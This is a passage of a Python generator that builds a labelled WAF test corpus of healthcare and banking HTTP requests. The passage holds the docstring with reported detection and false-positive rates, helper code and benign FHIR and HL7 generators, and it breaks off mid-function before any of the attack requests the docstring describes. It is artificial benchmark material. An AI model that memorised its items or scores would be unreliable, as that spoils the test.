#!/usr/bin/env python3
"""Held-out HTTP test corpus: regulated industries (healthcare + financial services).

What it is
    A deterministic generator of realistic HTTP requests against healthcare and
    financial-services APIs running in Kubernetes: FHIR R4 REST, HL7 v2 over HTTP,
    DICOMweb, X12 EDI claims, open-banking / FAPI payment APIs, ISO 20022 XML,
    SWIFT MT103, card tokenization, KYC uploads, insurance quotes, ledgers and CSV
    statement exports.  These formats are punctuation-heavy (| ^ ~ \\ & * : < > ;),
    which is exactly what makes them a hard false-positive test for a WAF.

    * benign       ~500 ordinary requests (expect "pass"), plus ~50 "dev-content"
                   requests: integration engineers' payloads (FHIRPath, JSONata,
                   XSLT, SQL in a reporting API, regexes, curl in support tickets).
    * attacks      ~250 requests (expect "detect") with real attack payloads placed
                   in the domain's own injection points (FHIR search params,
                   narrative XHTML, HL7 fields, EDI segments, webhook URLs, XML...).

    Written blind: without looking at the WAF's rules, its other corpora or its
    test data, so it measures generalisation rather than rule-fitting.

How to run
    python3 scripts/corpus-regulated.py attacks > rulesets/tests/data/regulated-attacks.jsonl
    python3 scripts/corpus-regulated.py benign  > rulesets/tests/data/regulated-benign.jsonl
    python3 scripts/corpus-regulated.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "regulated", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, palisade-rules at b078844)
---------------------------------------------------
Counts: 277 attacks (sqli 42, xss 32, ssrf 32, java 23, lfi 22, xxe 22,
rce 20, nosqli 15, ssti 15, ldapi 12, crlf 10, generic 10, php 8, protocol 8,
rfi 6), 591 benign (540 ordinary + 51 dev-content).

PL1 (threshold 5, built-in rules):
  attacks blocked   266/277 = 96.0 %
  benign blocked    39/540 = 7.2 % ordinary, 21/51 dev-content

Ordinary benign blocked at PL1 (39): X12 and HL7 v2 bodies (protocol-110 on
application/EDI-X12, application/hl7-v2, x-application/hl7-v2+er7), DICOMweb
STOW uploads (multipart/related read as one value: crlf-101 on the parts'
Content-Type lines).

After the class fixes of the same session (those media types allowed; X12 and
HL7 messages read field by field with their declared separators;
multipart/related, /mixed and /alternative parsed, their parts needing no
form-data disposition; multipart-100 only for encodings that change bytes;
sqli-025 a numeric tautology closing a value): attacks 270/277, ordinary
benign 0/540, dev-content 21/51. PL2: 275/277 and 117/540.
"""

import base64
import json
import random
import sys
import uuid
from urllib.parse import quote, quote_plus

SET = "regulated"
RECORDS = []            # every emitted record, in generation order
_COUNTERS = {}          # id prefix -> next index
GENERATORS = []         # (name, fn) in registration order


# ---------------------------------------------------------------- output helpers

def add(kind, category, sub, method, uri, headers, body=None):
    """kind: 'attack' | 'benign' | 'dev'.  category: attack class (ignored for benign)."""
    if kind == "attack":
        prefix, cat, expect = f"{SET}/{category}/{sub}", category, "detect"
    elif kind == "dev":
        prefix, cat, expect = f"{SET}/dev-content/{sub}", "benign", "pass"
    else:
        prefix, cat, expect = f"{SET}/benign/{sub}", "benign", "pass"
    n = _COUNTERS.get(prefix, 0)
    _COUNTERS[prefix] = n + 1
    rec = {"id": f"{prefix}/{n}", "set": SET, "category": cat, "expect": expect,
           "method": method, "uri": uri, "version": "HTTP/1.1",
           "headers": [[k, v] for k, v in headers]}
    if body is not None:
        rec["body"] = body
    RECORDS.append(rec)
    return rec


def gen(fn):
    GENERATORS.append((fn.__name__, fn))
    return fn


def q(s, safe=""):
    """Percent-encode one query value (space -> %20)."""
    return quote(s, safe=safe)


def qs(pairs, style="std"):
    """Build a query string as different client stacks would.
    std:  RFC 3986, keeps : , / | unencoded in values (curl / browsers-ish)
    plus: application/x-www-form-urlencoded (Java URLEncoder, HAPI, requests)
    raw:  minimal escaping, keep most punctuation (hand-written / Postman)"""
    out = []
    for k, v in pairs:
        if style == "plus":
            out.append(f"{quote_plus(k, safe=':')}={quote_plus(v)}")
        elif style == "raw":
            out.append(f"{quote(k, safe=':._-')}={quote(v, safe=':/,|$*()!@;-_.~')}")
        else:
            out.append(f"{quote(k, safe=':')}={quote(v, safe=':,/|')}")
    return "&".join(out)


def uri(path, pairs=None, style="std"):
    return path + ("?" + qs(pairs, style) if pairs else "")


def uid(r):
    return str(uuid.UUID(int=r.getrandbits(128), version=4))


def b64u(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(r, iss="https://auth.example-bank.co.uk", sub=None, alg="PS256", scope="accounts"):
    hdr = {"alg": alg, "kid": b64u(r.randbytes(12)), "typ": "JWT"}
    pl = {"iss": iss, "sub": sub or uid(r), "aud": "api", "scope": scope,
          "iat": 1718000000 + r.randrange(10 ** 6), "exp": 1718003600 + r.randrange(10 ** 6)}
    return ".".join([b64u(json.dumps(hdr, separators=(",", ":")).encode()),
                     b64u(json.dumps(pl, separators=(",", ":")).encode()),
                     b64u(r.randbytes(256 if alg.startswith(("PS", "RS")) else 64))])


def jws_detached(r, kid=None):
    hdr = {"alg": "PS256", "kid": kid or b64u(r.randbytes(9)), "b64": False,
           "http://openbanking.org.uk/iat": 1718000000 + r.randrange(10 ** 6),
           "http://openbanking.org.uk/iss": "0015800001041REAAY/" + b64u(r.randbytes(6)),
           "http://openbanking.org.uk/tan": "openbanking.org.uk", "crit": [
               "b64", "http://openbanking.org.uk/iat", "http://openbanking.org.uk/iss",
               "http://openbanking.org.uk/tan"]}
    return b64u(json.dumps(hdr, separators=(",", ":")).encode()) + ".." + b64u(r.randbytes(256))


HTTP_DATE_DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]


def http_date(r):
    return (f"{r.choice(HTTP_DATE_DAYS)}, {r.randint(1, 28):02d} "
            f"{r.choice(['Jan', 'Mar', 'May', 'Jun', 'Sep', 'Nov'])} 2024 "
            f"{r.randint(0, 23):02d}:{r.randint(0, 59):02d}:{r.randint(0, 59):02d} GMT")


FHIR_HOSTS = ["fhir.northwind-health.org", "ehr-api.stlukes-clinic.net",
              "fhir-server.clinical.svc.cluster.local:8080", "api.medcore.health"]
BANK_HOSTS = ["api.aldermore-open.co.uk", "ob.northbank.example.com",
              "payments-api.ledger.svc.cluster.local:8443", "api.fintechpay.io"]
INS_HOSTS = ["api.harborinsure.com", "claims.bluepeak-health.com", "edi-gw.payer.internal"]

FHIR_UAS = ["HAPI-FHIR/6.10.0 (FHIR Client; FHIR 4.0.1/R4; apache)",
            "Firely .NET SDK 5.5.1 (FHIR version 4.0.1)", "python-requests/2.31.0",
            "okhttp/4.12.0", "Mirth Connect/4.4.2", "fhir-kit-client/1.9.2 axios/1.6.7",
            "Java-http-client/17.0.9", "Go-http-client/1.1",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/124.0.0.0 Safari/537.36"]
BANK_UAS = ["okhttp/4.12.0", "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240405.002)",
            "NorthbankApp/7.3.1 (iPhone; iOS 17.4.1; Scale/3.00)", "axios/1.6.8",
            "Apache-HttpClient/5.3 (Java/17.0.10)", "python-httpx/0.27.0",
            "PostmanRuntime/7.37.3", "Go-http-client/2.0"]


def fhir_headers(r, host=None, ctype=None, accept="application/fhir+json", extra=()):
    h = [("Host", host or r.choice(FHIR_HOSTS)), ("User-Agent", r.choice(FHIR_UAS)),
         ("Accept", accept), ("Authorization", "Bearer " + jwt(r, iss="https://auth.medcore.health",
                                                                 scope="patient/*.read user/*.*")),
         ("X-Request-Id", uid(r))]
    if ctype:
        h.append(("Content-Type", ctype))
    if r.random() < 0.3:
        h.append(("traceparent", f"00-{r.randbytes(16).hex()}-{r.randbytes(8).hex()}-01"))
    h.extend(extra)
    return h


def bank_headers(r, host=None, ctype=None, accept="application/json", idem=False, jws=False,
                 extra=()):
    h = [("Host", host or r.choice(BANK_HOSTS)), ("User-Agent", r.choice(BANK_UAS)),
         ("Accept", accept), ("Authorization", "Bearer " + jwt(r)),
         ("x-fapi-interaction-id", uid(r)), ("x-fapi-auth-date", http_date(r))]
    if r.random() < 0.6:
        h.append(("x-fapi-customer-ip-address", f"{r.choice([81, 86, 92, 176])}.{r.randint(0, 255)}."
                                                f"{r.randint(0, 255)}.{r.randint(1, 254)}"))
    if ctype:
        h.append(("Content-Type", ctype))
    if idem:
        h.append(("x-idempotency-key", uid(r) if r.random() < 0.7 else b64u(r.randbytes(15))))
    if jws:
        h.append(("x-jws-signature", jws_detached(r)))
    h.extend(extra)
    return h


def jdump(obj, r=None):
    """JSON body, compact or pretty like different clients."""
    if r is not None and r.random() < 0.35:
        return json.dumps(obj, indent=2, ensure_ascii=False)
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# ---------------------------------------------------------------- generators
# (benign, dev-content and attack generators are appended below)


# ---------------------------------------------------------------- shared data

FAMILY = ["O'Neil", "D'Angelo", "Nguyễn", "Müller", "García-Márquez", "Sørensen", "Ó Briain",
          "Smith-Jones", "van der Berg", "Al-Farsi", "Łukasiewicz", "Château", "Çelik",
          "O'Connor", "MacDonald", "Dvořák", "Björk", "N'Diaye", "St. John", "Peña", "Kowalski"]
GIVEN = ["Siobhán", "José", "Zoë", "Renée", "Mary-Kate", "Anaïs", "Jürgen", "Chloé", "Ahmed",
         "Bartholomew", "Łucja", "Ngozi", "D'Arcy", "Ana María", "Mei", "Olusegun", "François"]
STREETS = ["12 O'Connell St., Apt #4B", "1600 Amphitheatre Pkwy", "Flat 3/2, 48 Rue de l'Église",
           "221B Baker Street", "Hauptstraße 5 & 7", "PO Box 1234 (c/o Dr. Patel)",
           "5th Ave & 23rd St", "Unit 9; Building C", "Ctra. de Málaga km 4,5"]
CITIES = [("Dublin", "D02 X285", "IE"), ("Boston", "02115", "US"), ("Montréal", "H2X 1Y4", "CA"),
          ("München", "80331", "DE"), ("London", "NW1 6XE", "GB"), ("Kraków", "31-042", "PL")]
LOINC = [("2345-7", "Glucose [Mass/volume] in Serum or Plasma", "mg/dL"),
         ("1988-5", "C reactive protein [Mass/volume] in Serum or Plasma", "mg/L"),
         ("718-7", "Hemoglobin [Mass/volume] in Blood", "g/dL"),
         ("8867-4", "Heart rate", "/min"), ("2160-0", "Creatinine [Mass/volume] in Serum", "mg/dL"),
         ("4548-4", "Hemoglobin A1c/Hemoglobin.total in Blood", "%"),
         ("6690-2", "Leukocytes [#/volume] in Blood by Automated count", "10*3/uL")]
NOTES = [
    "Pt c/o chest pain x2 days; BP 142/91 -- advised f/u w/ GP. Hx: HTN, T2DM (A1c 7.9%).",
    "Take 1 tablet 2x/day -- with food. Do NOT exceed 4 g/24h. Review in 2/52.",
    "CRP <0.5 mg/L, WBC 6.1 x10^9/L; eGFR >90. No action required :)",
    "Allergy: penicillin (rash) & sulfa -> use azithromycin 500mg PO OD x3/7.",
    "Patient's daughter (O'Neil) is POA; call 555-0142 ext. 3 before drop-off @ 14:30.",
    "Wound dressing changed; size 3cm x 1.5cm, <10% slough. Plan: select plan B (silver dressing).",
    "Sodium 128 (<135) -> repeat U&Es in 24h; fluid restrict 1.5L/day; ?SIADH.",
    "Dx: R/O appendicitis; US abdo booked. NBM from 00:00; IV fluids 100 mL/h.",
    "INR 3.4 (target 2-3) -- hold warfarin tonight, then 3mg/day; recheck Fri.",
    "Pain score 7/10 -> 3/10 after paracetamol 1g + ibuprofen 400mg (\"much better\").",
    "Ref'd to cardiology; ECG: sinus rhythm, QTc 452ms. Echo req. #A-7781/24.",
]
REMIT = ["Inv #123; ref: A/B-7", "O'Neil & Sons - rent (June)", "INV-2024/0611 50% deposit",
         "Refund: order #8812 (drop-off damaged)", "select plan B - annual premium",
         "Payroll 06/2024 | batch 4", "Loan repay: 1/12 @ 4.9% APR", "Gift for Zoë <3",
         "School fees T3 & uniform", "Ref: ACME-PO#4471 / 30 days net", "Dépôt garantie - Appt 4B",
         "Invoice 2024-117 (incl. VAT 20%)", "Split bill: dinner @ Nando's", "Rent + bills (£1,250.00)"]


def person(r):
    return r.choice(GIVEN), r.choice(FAMILY)


def fhir_patient(r, pid=None, narrative=True):
    g, f = person(r)
    street = r.choice(STREETS)
    city, pc, country = r.choice(CITIES)
    res = {"resourceType": "Patient", "id": pid or str(r.randint(1000, 99999)),
           "meta": {"versionId": str(r.randint(1, 9)), "lastUpdated": f"2024-0{r.randint(1, 9)}-1{r.randint(0, 9)}T08:15:00.000+00:00"},
           "identifier": [{"system": "http://hl7.org/fhir/sid/us-mbi" if r.random() < .5 else "urn:oid:2.16.840.1.113883.2.1.4.1",
                           "value": f"{r.randint(100, 999)} {r.randint(100, 999)} {r.randint(1000, 9999)}"}],
           "active": True, "name": [{"use": "official", "family": f, "given": g.split(" "),
                                     "prefix": [r.choice(["Ms.", "Mr.", "Dr.", "Mx."])]}],
           "telecom": [{"system": "phone", "value": f"+1 (555) 01{r.randint(10, 99)}-{r.randint(1000, 9999)}", "use": "mobile"},
                       {"system": "email", "value": f"{g.split(' ')[0].lower()}.{r.randint(1, 99)}@example.org"}],
           "gender": r.choice(["female", "male", "other", "unknown"]),
           "birthDate": f"19{r.randint(40, 99)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}",
           "address": [{"line": [street], "city": city, "postalCode": pc, "country": country}]}
    if narrative:
        res["text"] = {"status": "generated", "div":
                       f'<div xmlns="http://www.w3.org/1999/xhtml"><p><b>{g} {f.upper()}</b> '
                       f'({res["gender"]}), DoB: {res["birthDate"]}</p><table><tr><td>Address</td>'
                       f'<td>{street.replace("&", "&amp;")}, {city}</td></tr></table></div>'}
    return res


def observation(r, pid):
    code, disp, unit = r.choice(LOINC)
    res = {"resourceType": "Observation", "status": r.choice(["final", "preliminary", "amended"]),
           "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category",
                                     "code": "laboratory"}]}],
           "code": {"coding": [{"system": "http://loinc.org", "code": code, "display": disp}]},
           "subject": {"reference": f"Patient/{pid}"},
           "effectiveDateTime": f"2024-0{r.randint(1, 9)}-{r.randint(10, 28)}T{r.randint(6, 20):02d}:30:00Z"}
    x = r.random()
    if x < 0.35:
        v = r.choice(["<0.5", "<5", ">90", "<=0.01", ">1000"])
        res["valueString"] = f"{v} {unit}"
        res["interpretation"] = [{"text": "below detection limit" if v.startswith("<") else "above range"}]
    elif x < 0.7:
        res["valueQuantity"] = {"value": round(r.uniform(0.1, 180), 2), "unit": unit,
                                "system": "http://unitsofmeasure.org", "code": unit,
                                **({"comparator": r.choice(["<", ">=", "<="])} if r.random() < .4 else {})}
        res["referenceRange"] = [{"text": r.choice(["<5.0", "3.5 - 5.1", ">60 mL/min/1.73m2", "0-10 (adult)"])}]
    else:
        res["valueString"] = r.choice(NOTES)
    if r.random() < 0.4:
        res["note"] = [{"text": r.choice(NOTES)}]
    return res


# ---------------------------------------------------------------- benign: FHIR

@gen
def b_fhir_patient_search(r):
    for i in range(36):
        g, f = person(r)
        city = r.choice(CITIES)[0]
        opts = [
            [("name:contains", f)], [("family:exact", f), ("given", g)], [("name", f"{g} {f}")],
            [("birthdate", f"ge19{r.randint(50, 90)}-01-01"), ("birthdate", "lt2000-01-01")],
            [("identifier", f"http://hl7.org/fhir/sid/us-ssn|{r.randint(100, 999)}-{r.randint(10, 99)}-{r.randint(1000, 9999)}")],
            [("address-city", city), ("gender", "female"), ("_count", "50")],
            [("family", f), ("_sort", "-_lastUpdated"), ("_elements", "id,name,birthDate")],
            [("general-practitioner.name", f"Dr. {f}"), ("_include", "Patient:general-practitioner")],
            [("_has:Observation:patient:code", "http://loinc.org|2345-7"), ("_summary", "true")],
            [("telecom", "phone|+1 (555) 0142"), ("active", "true")],
            [("name", f), ("_revinclude", "Encounter:subject"), ("_total", "accurate")],
            [("_lastUpdated", "gt2024-05-01T00:00:00+02:00"), ("_format", "json")],
        ]
        pairs = r.choice(opts)
        style = r.choice(["std", "plus", "raw"])
        add("benign", None, "fhir-patient", "GET", uri("/fhir/r4/Patient" if r.random() < .5 else "/Patient", pairs, style),
            fhir_headers(r))
    for i in range(12):
        pid = str(r.randint(1000, 99999))
        add("benign", None, "fhir-patient", "GET",
            r.choice([f"/fhir/r4/Patient/{pid}", f"/fhir/r4/Patient/{pid}/_history/{r.randint(1, 5)}",
                      f"/fhir/r4/Patient/{pid}/$everything?_since=2024-01-01T00%3A00%3A00Z",
                      f"/fhir/r4/Patient/{pid}/$everything?start=2023-01-01&end=2024-06-30&_count=200"]),
            fhir_headers(r))


@gen
def b_fhir_patient_write(r):
    for i in range(30):
        pid = str(r.randint(1000, 99999))
        res = fhir_patient(r, pid, narrative=r.random() < .7)
        if r.random() < .5:
            add("benign", None, "fhir-patient", "PUT", f"/fhir/r4/Patient/{pid}",
                fhir_headers(r, ctype="application/fhir+json; charset=utf-8",
                             extra=[("If-Match", f'W/"{res["meta"]["versionId"]}"')]), jdump(res, r))
        else:
            res.pop("id"); res.pop("meta")
            add("benign", None, "fhir-patient", "POST", "/fhir/r4/Patient",
                fhir_headers(r, ctype="application/fhir+json",
                             extra=[("Prefer", "return=representation")] +
                                   ([("If-None-Exist", "identifier=" + q(res["identifier"][0]["system"] + "|" + res["identifier"][0]["value"], safe=":/"))] if r.random() < .4 else [])),
                jdump(res, r))


@gen
def b_fhir_observation(r):
    for i in range(22):
        pid = str(r.randint(1000, 99999))
        code = r.choice(LOINC)[0]
        pairs = r.choice([
            [("patient", pid), ("code", f"http://loinc.org|{code}"), ("date", "ge2024-01-01"), ("date", "le2024-06-30")],
            [("subject:Patient.name", r.choice(FAMILY)), ("category", "laboratory"), ("_sort", "-date")],
            [("patient", f"Patient/{pid}"), ("value-quantity", r.choice(["lt5.4|http://unitsofmeasure.org|mg/dL", "gt100||mg/dL", "ge7.5|http://unitsofmeasure.org|%"]))],
            [("code-value-quantity", f"http://loinc.org|{code}$gt6.5"), ("_include", "Observation:patient")],
            [("patient.identifier", "urn:oid:2.16.840.1.113883.2.1.4.1|943 476 5919"), ("_count", "100"), ("_include:iterate", "Patient:organization")],
            [("combo-code", "http://loinc.org|85354-9,http://loinc.org|8480-6"), ("status", "final,amended")],
        ])
        add("benign", None, "fhir-observation", "GET", uri("/fhir/r4/Observation", pairs, r.choice(["std", "plus", "raw"])),
            fhir_headers(r))
    for i in range(18):
        add("benign", None, "fhir-observation", "POST", "/fhir/r4/Observation",
            fhir_headers(r, ctype="application/fhir+json"), jdump(observation(r, r.randint(1000, 99999)), r))


SIGS = ["Take 1 tablet 2x/day -- with food", "1-2 puffs q4-6h PRN SOB (max 8/day)",
        "Apply thin layer to affected area BID; avoid eyes & mouth", "10 units SC @ bedtime; titrate +2u q3d if FBG >7",
        "Take 1 cap every 8 hours x 7 days -- finish the course!", "5 mL (250mg/5mL) PO TID; shake well",
        "½ tablet (2.5 mg) once daily; hold if SBP <100", "Inject 40 mg/0.4 mL SC every other week; store 2-8 °C"]


@gen
def b_fhir_medication(r):
    for i in range(22):
        pid = r.randint(1000, 99999)
        sig = r.choice(SIGS)
        res = {"resourceType": "MedicationRequest", "status": "active", "intent": "order",
               "medicationCodeableConcept": {"coding": [{"system": "http://www.nlm.nih.gov/research/umls/rxnorm",
                                                         "code": str(r.randint(100000, 999999)),
                                                         "display": r.choice(["Metformin 500 MG Oral Tablet", "Amoxicillin 250 MG/5ML Oral Suspension",
                                                                              "Salbutamol 100 MCG/ACTUAT Inhaler", "Insulin Glargine 100 UNT/ML"])}]},
               "subject": {"reference": f"Patient/{pid}"}, "authoredOn": "2024-06-11",
               "dosageInstruction": [{"text": sig, "patientInstruction": sig.replace("--", "-") + " (see leaflet)",
                                      "timing": {"repeat": {"frequency": 2, "period": 1, "periodUnit": "d"}},
                                      "doseAndRate": [{"doseQuantity": {"value": 1, "unit": "tablet"}}]}],
               "note": [{"text": r.choice(NOTES)}]}
        add("benign", None, "fhir-medication", "POST", "/fhir/r4/MedicationRequest",
            fhir_headers(r, ctype="application/fhir+json"), jdump(res, r))
    for i in range(8):
        add("benign", None, "fhir-medication", "GET",
            uri("/fhir/r4/MedicationRequest", r.choice([
                [("patient", str(r.randint(1000, 9999))), ("status", "active,on-hold"), ("_include", "MedicationRequest:medication")],
                [("code", "http://www.nlm.nih.gov/research/umls/rxnorm|860975"), ("authoredon", "ge2024-03-01")],
                [("medication.code:text", "insulin"), ("intent", "order"), ("_sort", "-authoredon")]]), r.choice(["std", "plus"])),
            fhir_headers(r))


@gen
def b_fhir_bundle(r):
    for i in range(20):
        entries = []
        pat_full = "urn:uuid:" + uid(r)
        p = fhir_patient(r, narrative=r.random() < .5)
        p.pop("id"); p.pop("meta")
        entries.append({"fullUrl": pat_full, "resource": p,
                        "request": {"method": "POST", "url": "Patient",
                                    "ifNoneExist": "identifier=" + p["identifier"][0]["system"] + "|" + p["identifier"][0]["value"]}})
        for j in range(r.randint(1, 4)):
            o = observation(r, 0)
            o["subject"] = {"reference": pat_full}
            entries.append({"fullUrl": "urn:uuid:" + uid(r), "resource": o, "request": {"method": "POST", "url": "Observation"}})
        if r.random() < .5:
            entries.append({"request": {"method": "DELETE", "url": f"Observation?patient={r.randint(100, 999)}&status=entered-in-error"}})
        if r.random() < .4:
            entries.append({"request": {"method": "GET", "url": f"Patient?name:contains={quote(r.choice(FAMILY))}&_count=1"}})
        b = {"resourceType": "Bundle", "type": r.choice(["transaction", "batch"]), "entry": entries}
        add("benign", None, "fhir-bundle", "POST", r.choice(["/fhir/r4", "/fhir/r4/", "/"]),
            fhir_headers(r, ctype="application/fhir+json;charset=UTF-8",
                         extra=[("Prefer", "return=minimal")] if r.random() < .5 else []), jdump(b, r))


@gen
def b_fhir_misc(r):
    searches = [
        ("/fhir/r4/Encounter", [("subject.name", "O'Neil"), ("date", "ge2024-01-01"), ("_include", "Encounter:participant:Practitioner")]),
        ("/fhir/r4/Condition", [("code:text", "type 2 diabetes"), ("onset-date", "lt2020"), ("clinical-status", "active")]),
        ("/fhir/r4/Practitioner", [("name:contains", "D'Angelo"), ("address-state", "MA")]),
        ("/fhir/r4/Appointment", [("date", "ge2024-06-01T08:00:00Z"), ("date", "lt2024-06-01T18:00:00Z"), ("actor:Practitioner.identifier", "http://hl7.org/fhir/sid/us-npi|1234567893")]),
        ("/fhir/r4/DiagnosticReport", [("patient", "Patient/8812"), ("_include", "DiagnosticReport:result"), ("_include:iterate", "Observation:has-member")]),
        ("/fhir/r4/Organization", [("name", "St. Mary's & Children's Hospital"), ("type", "prov")]),
        ("/fhir/r4/AllergyIntolerance", [("patient", "4471"), ("code", "http://snomed.info/sct|91936005"), ("criticality", "high")]),
        ("/fhir/r4/Claim", [("patient.birthdate", "1971-07-04"), ("created", "ge2024-01-01"), ("use", "claim"), ("_sort", "created")]),
        ("/fhir/r4/Coverage", [("beneficiary:Patient.identifier", "urn:oid:1.2.36.146.595.217.0.1|12345"), ("status", "active")]),
        ("/fhir/r4/ValueSet/$expand", [("url", "http://hl7.org/fhir/ValueSet/observation-codes"), ("filter", "blood press"), ("count", "20")]),
        ("/fhir/r4/CodeSystem/$lookup", [("system", "http://loinc.org"), ("code", "4548-4")]),
        ("/fhir/r4/Patient", [("_filter", 'name co "smi" and birthdate ge 1980-01-01'), ("_count", "10")]),
        ("/fhir/r4/Observation", [("_has:DiagnosticReport:result:status", "final"), ("_elements:exclude", "text")]),
        ("/fhir/r4/metadata", [("_format", "application/fhir+json"), ("mode", "full")]),
        ("/fhir/r4/Patient", [("_query", "mpi-match"), ("given", "Zoë"), ("family", "Müller")]),
        ("/fhir/r4/Group/4471/$export", [("_type", "Patient,Observation,Condition"), ("_since", "2024-01-01T00:00:00Z")]),
    ]
    for i in range(28):
        path, pairs = searches[i % len(searches)]
        ex = [("Prefer", "respond-async")] if "$export" in path else []
        add("benign", None, "fhir-search", "GET", uri(path, pairs, r.choice(["std", "plus", "raw"])), fhir_headers(r, extra=ex))
    # _search via POST form
    for i in range(8):
        g, f = person(r)
        body = qs([("family", f), ("given", g), ("birthdate", f"eq19{r.randint(40, 99)}-0{r.randint(1, 9)}-15"),
                   ("_include", "Patient:organization")], "plus")
        add("benign", None, "fhir-search", "POST", "/fhir/r4/Patient/_search",
            fhir_headers(r, ctype="application/x-www-form-urlencoded"), body)


@gen
def b_fhir_xml(r):
    for i in range(12):
        g, f = person(r)
        note = r.choice(NOTES).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        fx = f.replace("'", "&apos;") if r.random() < .5 else f
        body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<Patient xmlns="http://hl7.org/fhir">\n'
                f'  <text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">'
                f'<p>{g} {fx}</p><ul><li>Note: {note}</li></ul></div></text>\n'
                f'  <name><use value="official"/><family value="{fx}"/><given value="{g}"/></name>\n'
                f'  <birthDate value="19{r.randint(40, 99)}-03-0{r.randint(1, 9)}"/>\n</Patient>\n')
        add("benign", None, "fhir-xml", "POST", "/fhir/r4/Patient",
            fhir_headers(r, ctype="application/fhir+xml;charset=utf-8", accept="application/fhir+xml"), body)


@gen
def b_clinical_docs(r):
    for i in range(18):
        pid = r.randint(1000, 99999)
        note = "\n".join(r.sample(NOTES, 3))
        res = {"resourceType": "DocumentReference", "status": "current",
               "type": {"coding": [{"system": "http://loinc.org", "code": "11506-3", "display": "Progress note"}]},
               "subject": {"reference": f"Patient/{pid}"}, "date": "2024-06-12T09:41:00Z",
               "description": r.choice(["Discharge summary (rev. 2)", "Referral letter - Dr. O'Neil", "Lab results <ref range attached>"]),
               "content": [{"attachment": {"contentType": r.choice(["text/plain; charset=utf-8", "application/pdf"]),
                                           "title": r.choice(["note_2024-06-12.txt", "Discharge Summary #4471.pdf", "ECG 12-lead (final).pdf"]),
                                           **({"data": base64.b64encode(note.encode()).decode()} if r.random() < .6 else
                                              {"url": f"https://docs.medcore.health/Binary/{uid(r)}"})}}]}
        add("benign", None, "clinical-note", "POST", "/fhir/r4/DocumentReference",
            fhir_headers(r, ctype="application/fhir+json"), jdump(res, r))
    for i in range(8):
        add("benign", None, "clinical-note", "GET",
            r.choice([f"/api/v1/documents/{uid(r)}/download?disposition=attachment",
                      f"/api/v1/documents/download?file={q('reports/2024/06/discharge_' + str(r.randint(100, 999)) + '.pdf')}",
                      f"/fhir/r4/Binary/{uid(r)}", f"/api/v1/patients/{r.randint(1000, 9999)}/documents?type=lab&from=2024-01-01&sort=-date"]),
            fhir_headers(r, accept=r.choice(["application/pdf", "*/*", "application/fhir+json"])))


# ---------------------------------------------------------------- benign: HL7 v2, DICOMweb, X12

HL7_HOSTS = ["hl7-listener.integration.svc.cluster.local:8080", "mirth.stlukes-clinic.net", "iguana.medcore.health"]


def hl7_ts(r):
    return f"2024{r.randint(1, 12):02d}{r.randint(1, 28):02d}{r.randint(0, 23):02d}{r.randint(0, 59):02d}{r.randint(0, 59):02d}"


def hl7_esc(s):
    return (s.replace("\\", "\\E\\").replace("|", "\\F\\").replace("^", "\\S\\")
            .replace("&", "\\T\\").replace("~", "\\R\\"))


def hl7_msg(r, kind=None, pid_name=None, obx_value=None, extra_seg=None):
    kind = kind or r.choice(["ADT^A01^ADT_A01", "ADT^A08^ADT_A01", "ORU^R01^ORU_R01", "ORM^O01^ORM_O01"])
    g, f = person(r)
    city, pc, country = r.choice(CITIES)
    ts = hl7_ts(r)
    segs = [f"MSH|^~\\&|{r.choice(['EPIC', 'CERNER', 'LABSYS'])}|{r.choice(['STLUKES', 'NWH'])}^2.16.840.1.113883.3.72^ISO|MIRTH|HIE|{ts}||{kind}|MSG{r.randint(10 ** 6, 10 ** 7)}|P|2.5.1|||AL|NE",
            f"EVN|{kind[4:7]}|{ts}",
            f"PID|1||{r.randint(10 ** 5, 10 ** 6)}^^^MRN^MR~{r.randint(100, 999)}-{r.randint(10, 99)}-{r.randint(1000, 9999)}^^^SSA^SS||"
            f"{pid_name or (hl7_esc(f) + '^' + g + '^^^' + r.choice(['Ms', 'Mr', 'Dr']))}||19{r.randint(40, 99)}0{r.randint(1, 9)}15|{r.choice('FMU')}|||"
            f"{hl7_esc(r.choice(STREETS))}^^{city}^^{pc}^{country}||^PRN^PH^^1^555^{r.randint(1000000, 9999999)}"]
    if kind.startswith("ADT"):
        segs.append(f"PV1|1|I|4W^412^B^STLUKES||||1234567893^{hl7_esc(r.choice(FAMILY))}^{r.choice(GIVEN)}^^^Dr|||MED||||7|||||V{r.randint(10 ** 5, 10 ** 6)}")
        segs.append(f"NK1|1|{hl7_esc(r.choice(FAMILY))}^{r.choice(GIVEN)}|DAU^Daughter^HL70063|{hl7_esc(r.choice(STREETS))}")
    else:
        segs.append(f"OBR|1|{r.randint(10 ** 5, 10 ** 6)}^LAB|{r.randint(10 ** 5, 10 ** 6)}^LAB|24331-1^Lipid panel^LN|||{ts}")
        for n in range(1, r.randint(2, 5)):
            code, disp, unit = r.choice(LOINC)
            val = obx_value if (obx_value and n == 1) else r.choice([f"{round(r.uniform(0.1, 150), 1)}", "<0.5", ">90", "NEG"])
            vt = "ST" if not val[0].isdigit() else "NM"
            segs.append(f"OBX|{n}|{vt}|{code}^{hl7_esc(disp)}^LN||{val}|{hl7_esc(unit)}|{r.choice(['<5.0', '3.5-5.1', '0-10', '>60'])}|"
                        f"{r.choice(['N', 'H', 'L', ''])}|||F|||{ts}")
        if r.random() < .5:
            segs.append("NTE|1|L|" + hl7_esc(r.choice(NOTES)) + "\\.br\\Verified by: " + r.choice(FAMILY).replace("'", "'"))
    if extra_seg:
        segs.append(extra_seg)
    return "\r".join(segs) + "\r"


def hl7_headers(r, ctype=None):
